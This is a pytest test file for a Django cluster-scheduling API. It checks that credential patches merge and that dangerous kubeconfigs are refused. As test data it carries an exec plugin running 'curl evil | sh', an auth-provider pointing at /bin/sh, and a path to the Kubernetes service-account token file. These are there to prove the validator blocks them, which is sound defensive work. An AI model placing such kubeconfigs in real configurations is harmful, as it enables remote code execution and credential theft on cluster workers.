"""Cluster credentials: a partial update merges, and kubeconfigs that would run a command
or read files on the workers are refused (real services and API, real PostgreSQL)."""

from __future__ import annotations

from typing import Any

import pytest

from scheduling import services
from scheduling.backends.base import BackendError
from scheduling.backends.credentials import decrypt_credentials, encrypt_credentials
from scheduling.models import Cluster
from tests.conftest import client_for

pytestmark = pytest.mark.django_db

INLINE = ("apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster: {server: 'https://10.0.0.1:6443',"
          " certificate-authority-data: Q0E=}\nusers:\n- name: u\n  user: {token: inline-token}\n"
          "contexts:\n- name: x\n  context: {cluster: c, user: u}\ncurrent-context: x\n")
EXEC = INLINE.replace("user: {token: inline-token}",
                      "user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: sh,"
                      " args: ['-c', 'curl evil | sh']}}")
AUTH_PROVIDER = INLINE.replace("user: {token: inline-token}",
                               "user: {auth-provider: {name: gcp, config: {cmd-path: /bin/sh}}}")
TOKEN_FILE = INLINE.replace("user: {token: inline-token}",
                            "user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}")
CA_FILE = INLINE.replace("certificate-authority-data: Q0E=", "certificate-authority: /etc/ssl/ca.pem")


def _stored(cluster_id: int) -> dict[str, Any]:
    return decrypt_credentials(Cluster.objects.get(pk=cluster_id).credentials_encrypted)


def test_patching_one_credential_keeps_the_others(world: Any) -> None:
    admin = client_for(world.admin)
    r = admin.post("/api/v1/clusters/", {
        "name": "prod", "backend": "kubernetes", "api_server": "https://10.0.0.1:6443",
        "enabled": False, "kubeconfig": INLINE, "token": "old-token", "ca_cert": "PEM-CA"},
        format="json")
    assert r.status_code == 201, r.content
    pk = r.json()["id"]

    r = admin.patch(f"/api/v1/clusters/{pk}/", {"token": "new-token"}, format="json")
    assert r.status_code == 200, r.content
    assert _stored(pk) == {"kubeconfig": INLINE, "token": "new-token", "ca_cert": "PEM-CA"}

    # a field that is not credentials leaves them alone
    assert admin.patch(f"/api/v1/clusters/{pk}/", {"display_name": "Prod"},
                       format="json").status_code == 200
    assert _stored(pk)["token"] == "new-token"

    # an explicit empty string clears that one key
    assert admin.patch(f"/api/v1/clusters/{pk}/", {"ca_cert": ""}, format="json").status_code == 200
    assert _stored(pk) == {"kubeconfig": INLINE, "token": "new-token"}
    assert admin.patch(f"/api/v1/clusters/{pk}/", {"kubeconfig": "", "token": ""},
                       format="json").status_code == 200
    assert _stored(pk) == {} and admin.get(f"/api/v1/clusters/{pk}/").json()["has_credentials"] is False


@pytest.mark.parametrize("kubeconfig,word", [
    (EXEC, "exec"), (AUTH_PROVIDER, "auth-provider"), (TOKEN_FILE, "tokenFile"),
    (CA_FILE, "certificate-authority"), ("users: [", "YAML"),
])
def test_kubeconfigs_that_run_commands_or_read_files_are_refused(world: Any, kubeconfig: str,
                                                                   word: str) -> None:
    admin = client_for(world.admin)
    r = admin.post("/api/v1/clusters/", {"name": "evil", "backend": "kubernetes",
                                         "api_server": "https://10.0.0.1:6443", "enabled": False,
                                         "kubeconfig": kubeconfig}, format="json")
    assert r.status_code == 400 and list(r.json()) == ["kubeconfig"], r.content
    assert word in r.json()["kubeconfig"][0]
    assert not Cluster.objects.filter(name="evil").exists()

    cluster = services.cluster_create(actor=world.admin, name="ok", backend="kubernetes",
                                      api_server="https://10.0.0.1:6443", enabled=False,
                                      credentials={"kubeconfig": INLINE})
    r = admin.patch(f"/api/v1/clusters/{cluster.pk}/", {"kubeconfig": kubeconfig}, format="json")
    assert r.status_code == 400 and "kubeconfig" in r.json(), r.content
    assert _stored(cluster.pk) == {"kubeconfig": INLINE}


def test_console_form_names_the_kubeconfig_field(world: Any) -> None:
    from django.test import Client

    browser = Client()
    browser.force_login(world.admin)
    page = browser.post("/scheduling/clusters/new/", {
        "name": "evil", "backend": "kubernetes", "api_server": "https://10.0.0.1:6443",
        "namespace_prefix": "camp", "placement_policy": "fragmentation", "kubeconfig": EXEC,
        "inventory": ""})
    assert page.status_code == 200
    assert "exec credential plugin" in page.content.decode()
    assert not Cluster.objects.filter(name="evil").exists()


def test_a_stored_exec_kubeconfig_is_never_loaded(world: Any) -> None:
    from scheduling.backends.kubernetes import KubernetesBackend

    cluster = services.cluster_create(actor=world.admin, name="old", backend="kubernetes",
                                      api_server="https://10.0.0.1:6443", enabled=False)
    # stored before the check existed
    Cluster.objects.filter(pk=cluster.pk).update(
        credentials_encrypted=encrypt_credentials({"kubeconfig": EXEC}))
    cluster.refresh_from_db()
    with pytest.raises(BackendError, match="exec"):
        KubernetesBackend.for_cluster(cluster)
